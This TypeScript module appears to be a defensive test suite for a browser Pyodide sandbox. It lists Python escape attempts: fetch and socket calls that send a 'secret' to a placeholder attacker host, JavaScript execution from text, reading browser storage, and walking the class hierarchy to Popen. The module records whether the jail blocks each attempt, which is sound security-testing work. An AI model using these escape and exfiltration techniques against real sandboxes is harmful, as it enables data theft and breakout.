import { z } from 'zod';
import type { Attack, AttackOutcome } from '../core/attack.ts';
import type { PythonEngine } from '../core/engine.ts';
import { somewhere } from './somewhere.ts';

const attempts = [
  {
    id: 'python-fetch',
    title: 'Call the browser’s own fetch',
    code: `import js\njs.fetch("${somewhere}?secret=42")`,
  },
  {
    id: 'python-open-url',
    title: 'Use Pyodide’s way to the network',
    code: `import pyodide.http\npyodide.http.open_url("${somewhere}")`,
  },
  {
    id: 'python-urllib',
    title: 'Make a request with the standard library',
    code: `import urllib.request\nurllib.request.urlopen("${somewhere}").read()`,
  },
  {
    id: 'python-socket',
    title: 'Open a connection below that',
    code: 'import socket\nsocket.create_connection(("attacker.invalid", 443), timeout=1).send(b"42")',
  },
  {
    id: 'python-eval',
    title: 'Run JavaScript from text',
    code: 'from pyodide.code import run_js\nrun_js("1 + 1")',
  },
  {
    id: 'python-constructor',
    title: 'Make a JavaScript function out of a list',
    code: 'from pyodide.ffi import to_js\nto_js([]).constructor.constructor("return 1")()',
  },
  {
    id: 'python-storage',
    title: 'Read what this browser stores',
    code: 'import pyodide_js\npyodide_js._module.IDBFS.indexedDB().open("insightx")',
  },
  {
    id: 'python-tabs',
    title: 'Speak to another tab',
    code: 'from js import BroadcastChannel\nBroadcastChannel.new("insightx").postMessage(42)',
  },
  {
    id: 'python-walk',
    title: 'Walk through all classes to a process',
    code:
      'every = ().__class__.__base__.__subclasses__()\n' +
      '[c for c in every if c.__name__ == "Popen"][0](["true"]).wait()',
  },
] as const;

const timeoutMs = 20_000;

/** Each is run by itself and may do what it likes; an interpreter is used once, so they share one. */
const together = (codes: readonly string[]) => `
def attempt(code):
    try:
        exec(compile(code, "attack", "exec"), {})
    except BaseException as failure:
        return f"{type(failure).__name__}: {failure}"

results = [attempt(code) for code in ${JSON.stringify(codes)}]
`;

/** What each attack failed of; null for one that ran to its end. */
const failuresSchema = z.array(z.string().nullable()).length(attempts.length);

/** `start` gives an interpreter that does not look at code before it runs it: the jail is on its own. */
export function pythonAttacks(start: () => Pick<PythonEngine, 'run'>): readonly Attack[] {
  const round: { failures: ReturnType<typeof runAll> | undefined } = { failures: undefined };
  const failureOf = async (index: number): Promise<AttackOutcome> => {
    if (index === 0) round.failures = runAll(start());
    const failure = (await round.failures)?.[index];
    if (typeof failure === 'string') return { kind: 'stopped', said: failure };
    return { kind: 'through', got: 'It ran to its end.' };
  };
  return attempts.map((each, index) => ({ ...each, runner: 'python', attempt: () => failureOf(index) }));
}

async function runAll(engine: Pick<PythonEngine, 'run'>): Promise<readonly (string | null)[]> {
  const code = together(attempts.map((each) => each.code));
  const { results } = await engine.run(code, {}, { timeoutMs });
  return failuresSchema.parse(results);
}
